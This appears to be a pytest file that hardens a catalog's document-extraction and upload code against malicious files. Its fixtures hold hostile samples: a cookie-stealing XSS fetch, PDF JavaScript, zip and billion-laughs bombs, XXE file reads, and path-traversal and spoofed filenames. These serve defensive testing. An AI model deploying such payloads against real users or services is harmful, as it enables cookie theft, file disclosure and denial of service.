"""Files that mean harm, or lie about what they are: each ends in a clear state, and nothing of it runs or leads out."""

from __future__ import annotations

import importlib
import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from catalog import uploads
from catalog.extract.child import READERS
from catalog.extract.contents import Contents
from catalog.extract.kinds import Kind, detect
from catalog.extract.limits import Limits
from catalog.extract.refusal import Failure, Unreadable
from lrc.storage import _SHOWN_AS_IS
from tests.catalog.extract import recorded, samples

SCRIPT = "<script>fetch('http://127.0.0.1/'+document.cookie)</script>"
PAGE = f"<html><head><title>Quinua</title></head><body onload=alert(1)><p>La quinua crece.</p>{SCRIPT}</body></html>"


def outcome(path: Path, ending: str = "") -> tuple[Kind, str] | Failure:
    """What reading in this process comes to: the kind with all its text, or why it is refused."""
    try:
        kind = detect(path, ending or path.suffix)
        contents: Contents = importlib.import_module(READERS[kind]).read(path, Limits(max_pages=5000))
        text = "\n".join(section.text for section in contents.sections)
        contents.about()
    except Unreadable as refusal:
        return refusal.failure
    return contents.kind or kind, text


def written(path: Path, content: bytes | str) -> Path:
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), "red").save(out, "PNG")
    return out.getvalue()


def zip_bytes(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def scripted_pdf(path: Path) -> Path:
    action = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1'\\))>>"
    plain = samples.pdf(path, ["Hola a todos"]).read_bytes()
    return written(path, plain.replace(b"<</Type/Catalog", b"<<" + action + b"/Type/Catalog"))


def endless_book(path: Path) -> Path:
    """A hundred thousand pages, all of them the same one."""
    small = samples.pdf(path, ["Hola"]).read_bytes()
    return written(path, small.replace(b"/Count 1/Kids[4 0 R]", b"/Count 100000/Kids[" + b"4 0 R " * 100_000 + b"]"))


def lying_zip(path: Path) -> Path:
    """A website of five gigabytes by its own word."""
    content = bytearray(zip_bytes({"index.html": PAGE}))
    at = content.index(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    return written(path, bytes(content))


def locked_zip(path: Path) -> Path:
    content = bytearray(zip_bytes({"index.html": PAGE}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + offset] |= 1
    return written(path, bytes(content))


def leading_out(path: Path) -> Path:
    """A Word document whose main part is a file of the machine."""
    document = samples.docx(path, "<w:p/>")
    parts = {}
    with zipfile.ZipFile(document) as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name).replace(b'Target="word/document.xml"', b'Target="../../../etc/passwd"')
    return samples.zipped(path, parts)


REFUSED: dict[str, tuple[Failure, Callable[[Path], Path]]] = {
    "nothing.pdf": (Failure.EMPTY, lambda path: written(path, b"")),
    "blanks.txt": (Failure.EMPTY, lambda path: written(path, " \n\t\n")),
    "drawing.svg": (Failure.UNKNOWN_KIND, lambda path: written(path, f"<svg xmlns='x'>{SCRIPT}</svg>")),
    "drawing.png": (Failure.UNKNOWN_KIND, lambda path: written(path, f"<?xml version='1.0'?><svg>{SCRIPT}</svg>")),
    "program.pdf": (Failure.UNKNOWN_KIND, lambda path: written(path, b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(200))),
    "program.mp4": (Failure.UNKNOWN_KIND, lambda path: written(path, b"\x7fELF\2\1\1" + bytes(200))),
    "program.jar": (
        Failure.UNKNOWN_KIND,
        lambda path: samples.zipped(path, {"META-INF/MANIFEST.MF": ""}),
    ),
    "page_and_pdf.html": (Failure.CORRUPT, lambda path: written(path, f"<html>{SCRIPT} %PDF-1.7 </html>")),
    "half.jpg": (Failure.CORRUPT, lambda path: written(path, b"\xff\xd8\xff\xe0" + bytes(300))),
    "half.docx": (Failure.CORRUPT, lambda path: written(path, samples.docx(path, "<w:p/>").read_bytes()[:200])),
    "noise.mp3": (Failure.CORRUPT, lambda path: written(path, b"ID3\x03" + bytes(range(256)) * 4)),
    "endless.pdf": (Failure.TOO_MANY_PAGES, endless_book),
    "lying.zip": (Failure.ZIP_BOMB, lying_zip),
    "bomb.zip": (Failure.ZIP_BOMB, lambda path: samples.zipped(path, {"index.html": b" " * (40 << 20)})),
    "laughs.docx": (Failure.ZIP_BOMB, lambda path: samples.docx(path, samples.BILLION_LAUGHS + "<x>&l9;</x>")),
    "locked.zip": (Failure.ENCRYPTED, locked_zip),
    "out.docx": (Failure.CORRUPT, leading_out),
}


@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_for_a_reason(tmp_path, name):
    failure, make = REFUSED[name]
    assert outcome(make(tmp_path / name)) is failure


def test_a_pdf_with_a_script_is_read_and_runs_nothing(tmp_path):
    assert outcome(scripted_pdf(tmp_path / "a.pdf")) == (Kind.PDF, "Hola a todos")


def test_of_a_page_with_scripts_only_its_words_are_kept(tmp_path):
    assert outcome(written(tmp_path / "a.html", PAGE)) == (Kind.HTML, ["Quinua", "La quinua crece."][1])
    assert outcome(samples.zipped(tmp_path / "a.zip", {"index.html": PAGE, "a.js": "alert(1)"}))[0] is Kind.WEBSITE


def test_a_file_of_two_faces_is_what_its_beginning_says(tmp_path):
    assert outcome(written(tmp_path / "a.html", png() + PAGE.encode())) == (Kind.PNG, "")
    assert outcome(written(tmp_path / "b.zip", png() + zip_bytes({"index.html": PAGE}))) == (Kind.PNG, "")
    film = recorded.mp4(tmp_path / "c.html").read_bytes() + PAGE.encode()
    assert outcome(written(tmp_path / "c.html", film)) == (Kind.MP4, "")


def test_a_wrong_ending_misleads_nobody(tmp_path):
    assert outcome(samples.pdf(tmp_path / "a.mp4", ["Hola a todos"])) == (Kind.PDF, "Hola a todos")
    assert outcome(recorded.mp3(tmp_path / "b.pdf")) == (Kind.MP3, "")
    assert outcome(written(tmp_path / "c.exe", "La quinua crece.")) == (Kind.TEXT, "La quinua crece.")


def test_entities_bring_nothing_in_from_the_machine(tmp_path):
    secret = written(tmp_path / "secret.txt", "clave secreta")
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}">]>'
    body = f"<w:document {samples.WORD}><w:body><w:p><w:r><w:t>Hola &s;</w:t></w:r></w:p></w:body></w:document>"
    found = outcome(samples.docx(tmp_path / "a.docx", head + body))
    assert isinstance(found, Failure) or "clave" not in found[1]
    page = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY s SYSTEM "file://{secret}">]><html><p>Hola &s;</p></html>'
    found = outcome(written(tmp_path / "a.html", page))
    assert isinstance(found, Failure) or "clave" not in found[1]


def test_an_archive_in_an_archive_stays_closed(tmp_path):
    inner = zip_bytes({"index.html": b" " * (8 << 20)})
    path = samples.zipped(tmp_path / "a.zip", {"index.html": PAGE, "inner.zip": inner})
    assert outcome(path) == (Kind.WEBSITE, "La quinua crece.")


def test_a_film_that_says_it_lasts_for_ages_is_not_believed(tmp_path):
    path = recorded.webm(tmp_path / "a.webm", 1e15)
    contents = importlib.import_module(READERS[Kind.WEBM]).read(path, Limits())
    said = importlib.import_module("catalog.extract.about").from_message({"duration_s": contents.about().duration_s})
    assert said.duration_s == 0


NAMES = {
    "../../etc/passwd": "passwd",
    "C:\\Users\\rosa\\guía.pdf": "guía.pdf",
    "\u202egpj.exe": "gpj.exe",
    "a\0b\r\nc.pdf": "abc.pdf",
    "கினோவா.pdf": "கினோவா.pdf",
    "кинва 藜麦 كينوا.docx": "кинва 藜麦 كينوا.docx",
    "🌱.png": "🌱.png",
    "": "archivo",
    "/": "archivo",
    "\u200b\u200f": "archivo",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_in_any_alphabet_is_kept_without_what_leads_elsewhere(name):
    assert uploads.clean_name(name) == NAMES[name]


def test_what_could_run_in_a_browser_is_never_shown_as_it_is():
    running = {Kind.HTML, Kind.WEBSITE, Kind.EPUB, Kind.MARKDOWN, Kind.TEXT, Kind.VTT, Kind.SRT, Kind.DOCX}
    assert not _SHOWN_AS_IS & {each.value for each in running}
    assert "image/svg+xml" not in _SHOWN_AS_IS
